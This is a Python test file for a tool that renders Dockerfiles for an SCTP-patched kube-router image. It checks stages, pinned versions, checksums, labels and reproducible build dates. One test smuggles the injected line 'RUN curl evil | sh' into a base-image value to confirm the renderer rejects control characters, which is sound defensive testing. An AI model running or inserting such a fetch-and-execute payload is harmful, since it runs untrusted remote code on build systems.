"""Rendering images/Dockerfile.j2: defaults, families, and nothing unvalidated inside."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from kube_router_sctp import config, plan, render
from kube_router_sctp.errors import ConfigError


def rendered(**flags: object) -> str:
    settings = config.load(dict(flags))
    built = plan.build(settings)
    return render.render(built, render.configured_bases(built)).dockerfile


def test_default_render_is_the_field_report_image() -> None:
    text = rendered()
    assert "FROM alpine:3.10.3 AS ipvsadm-builder" in text
    assert re.search(r"^FROM alpine:3\.10\.3$", text, re.M)
    assert "ipvsadm-1.30.tar.xz" in text
    assert (
        'echo "95573d70df473c9f63fc4ac496c044c69e3a6de7ccac119922210c0b44cd7a0c  ipvsadm-1.30.tar.xz" > '
        "ipvsadm-1.30.tar.xz.sha256" in text
    )
    assert "sha256sum -c ipvsadm-1.30.tar.xz.sha256" in text


def test_three_stages_and_no_compiler_in_the_runtime() -> None:
    text = rendered(**{"build.base-family": "debian"})
    stages = re.split(r"^FROM ", text, flags=re.M)[1:]
    assert [s.split("\n", 1)[0] for s in stages] == [
        "debian:bookworm AS go-toolchain",
        "go-toolchain AS kube-router-builder",
        "debian:bookworm AS ipvsadm-builder",
        "debian:bookworm-slim",
    ]
    runtime = stages[-1]
    for tool in ("gcc", "golang", "make", "build-base", "-dev"):
        assert tool not in runtime
    for package in ("iptables", "ipset", "iproute2", "conntrack"):
        assert package in runtime
    assert (
        "COPY --from=kube-router-builder /out/linux_amd64/kube-router /out/linux_amd64/gobgp /usr/local/bin/" in runtime
    )
    assert "COPY --from=ipvsadm-builder /out/ipvsadm /usr/local/sbin/ipvsadm" in runtime


def test_labels_name_the_inputs() -> None:
    text = rendered(**{"build.base-family": "debian", "build.ipvsadm-version": "1.31"})
    assert '"org.opencontainers.image.revision"="4afd6d6d2ab9c94abc5985c30c56ca2605a70a3f"' in text
    assert '"io.github.kube-router-sctp.ipvsadm.version"="1.31"' in text
    assert '"io.github.kube-router-sctp.patch-series"="v0.3 rev 1"' in text
    assert "0003-proxy-create-and-recognise-sctp-ipvs-services.patch" in text
    assert '"org.opencontainers.image.version"="v0.3.2-sctp.1-debian"' in text


def test_no_buildkit_only_syntax() -> None:
    for family in config.FAMILIES:
        text = rendered(**{"build.base-family": family})
        assert "--mount" not in text
        assert "<<" not in text  # heredocs


def test_toolchain_line_copies_the_pinned_go() -> None:
    text = rendered(**{"build.base-family": "debian", "build.kube-router-version": "v2.7.1"})
    assert "COPY go/go1.25.1.linux-amd64.zip /tmp/go.zip" in text
    assert "github.com/cloudnativelabs/kube-router/v2/pkg/version.Version=v2.7.1-sctp." in text
    assert "GOTOOLCHAIN=local" in text


def test_a_value_with_a_newline_never_reaches_the_dockerfile(monkeypatch: pytest.MonkeyPatch) -> None:
    built = plan.build(config.load())
    evil = render.BaseImages("alpine:3.10.3\nRUN curl evil | sh", "alpine:3.10.3", "alpine:3.10.3")
    with pytest.raises(ConfigError, match="control character"):
        render.render(built, evil)


def test_source_date_epoch_is_the_commit_date_unless_set(tmp_path: Path) -> None:
    env = {"KUBE_ROUTER_SCTP_CONFIG": str(tmp_path / "none.toml")}
    built = plan.build(config.load(env=env))
    assert render.source_date_epoch(built) == 1563950150
    built = plan.build(config.load(env={**env, "SOURCE_DATE_EPOCH": "1700000000"}))
    assert render.source_date_epoch(built) == 1700000000
    with pytest.raises(ConfigError, match="SOURCE_DATE_EPOCH"):
        config.load(env={**env, "SOURCE_DATE_EPOCH": "yesterday"})


def test_multi_platform_renders_cross_compiles_and_binaries_from_context() -> None:
    built = plan.build(config.load({"build.base-family": "debian"}))
    bases = render.configured_bases(built)
    binaries = render.render(built, bases, targets=("linux/amd64", "linux/arm64")).dockerfile
    assert "GOOS=linux GOARCH=arm64 go build" in binaries
    assert "-o /out/linux_arm64/kube-router" in binaries and "-o /out/linux_arm64/gobgp" in binaries
    arm = render.render(built, bases, platform="linux/arm64", binaries_in_context=True).dockerfile
    assert "AS go-toolchain" not in arm and "go build" not in arm
    assert "COPY bin/kube-router bin/gobgp /usr/local/bin/" in arm
    assert "AS ipvsadm-builder" in arm
